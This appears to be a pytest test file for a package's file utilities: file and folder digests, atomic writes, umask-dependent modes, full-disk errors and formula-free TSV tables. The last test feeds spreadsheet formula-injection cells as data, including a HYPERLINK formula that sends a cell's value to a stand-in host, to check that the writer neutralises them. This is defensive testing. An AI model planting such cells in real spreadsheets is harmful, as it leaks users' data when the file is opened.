"""Atomic writes of files, their digests, and tables without spreadsheet formulas."""

from __future__ import annotations

import errno
import hashlib
import json
import os
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from pdsynth import files
from pdsynth.types import InputError


def test_digest_of_a_file_is_that_of_its_bytes(tmp_path: Path) -> None:
    path = tmp_path / "a.tsv"
    path.write_bytes(b"participant_id\nsub-01\n")
    assert files.sha256(path) == hashlib.sha256(b"participant_id\nsub-01\n").hexdigest()


def test_digest_of_a_folder_sees_names_sizes_and_small_contents(tmp_path: Path) -> None:
    (tmp_path / "sub").mkdir()
    small, large = tmp_path / "sub" / "a.json", tmp_path / "b.nii"
    small.write_text("1")
    large.write_bytes(bytes(files.SMALL + 1))
    first = files.sha256(tmp_path)
    assert files.sha256(tmp_path) == first
    small.write_text("2")
    changed = files.sha256(tmp_path)
    large.write_bytes(bytes(files.SMALL + 2))
    grown = files.sha256(tmp_path)
    small.rename(tmp_path / "sub" / "c.json")
    assert len({first, changed, grown, files.sha256(tmp_path)}) == 4


def test_digest_of_a_missing_path_names_it(tmp_path: Path) -> None:
    with pytest.raises(InputError, match=r"nowhere: does not exist\. Remedy:"):
        files.sha256(tmp_path / "nowhere")


def test_write_json_leaves_no_temporary_file(tmp_path: Path) -> None:
    files.write_json(tmp_path / "a.json", {"b": [1, 2]})
    assert [p.name for p in tmp_path.iterdir()] == ["a.json"]
    assert json.loads((tmp_path / "a.json").read_text()) == {"b": [1, 2]}


@pytest.mark.parametrize(("umask", "mode"), [(0o022, 0o644), (0o002, 0o664), (0o077, 0o600)])
def test_the_mode_of_a_file_follows_the_umask(umask: int, mode: int, tmp_path: Path) -> None:
    before = os.umask(umask)
    try:
        files.write_text(tmp_path / "a.txt", "x")
    finally:
        os.umask(before)
    assert (tmp_path / "a.txt").stat().st_mode & 0o777 == mode


def test_a_failed_write_leaves_the_old_file_and_nothing_else(tmp_path: Path) -> None:
    (tmp_path / "a.txt").write_text("old")
    with pytest.raises(RuntimeError), files.atomic_path(tmp_path / "a.txt") as temporary:
        temporary.write_text("half")
        raise RuntimeError
    assert [(p.name, p.read_text()) for p in tmp_path.iterdir()] == [("a.txt", "old")]


def test_a_file_has_its_name_only_when_its_bytes_are_on_the_disk(tmp_path: Path, monkeypatch) -> None:
    order = []
    monkeypatch.setattr(os, "fsync", lambda handle: order.append(os.fstat(handle).st_size))
    real = os.replace
    monkeypatch.setattr(os, "replace", lambda *names: (order.append("named"), real(*names)))
    files.write_text(tmp_path / "a.txt", "four")
    assert order == [4, "named"]


def test_a_short_write_without_a_number_is_a_full_disk_that_names_the_file(tmp_path: Path) -> None:
    with pytest.raises(OSError) as stop, files.atomic_path(tmp_path / "a.npy"):
        raise OSError("1 requested and 0 written")  # as numpy words it
    assert stop.value.errno == errno.ENOSPC
    assert stop.value.filename == str(tmp_path / "a.npy")


def test_a_table_holds_no_formula(tmp_path: Path) -> None:
    cells = [
        '=HYPERLINK("http://a/?"&A1,"open")',
        "+1+cmd",
        "-2+3",
        "@SUM(A1)",
        "\tx",
        "adni",
        "-1.5",
        "+3e-4",
        "n/a",
        "",
    ]
    table = pd.DataFrame({"site": cells, "number": np.arange(10) - 5.0})
    files.write_table(tmp_path / "t.tsv", table)
    read = pd.read_csv(tmp_path / "t.tsv", sep="\t", keep_default_na=False, dtype=str)
    assert all(cell[:1] not in tuple("=@+-") or cell in ("-1.5", "+3e-4") for cell in read["site"])
    assert read["site"].tolist()[5:9] == ["adni", "-1.5", "+3e-4", "n/a"]
    assert read["number"].tolist() == [f"{n:.1f}" for n in np.arange(10) - 5.0]
    again = pd.read_csv(tmp_path / "t.tsv", sep="\t", keep_default_na=False)
    files.write_table(tmp_path / "again.tsv", again)
    assert (tmp_path / "again.tsv").read_bytes() == (tmp_path / "t.tsv").read_bytes()  # an apostrophe is not doubled
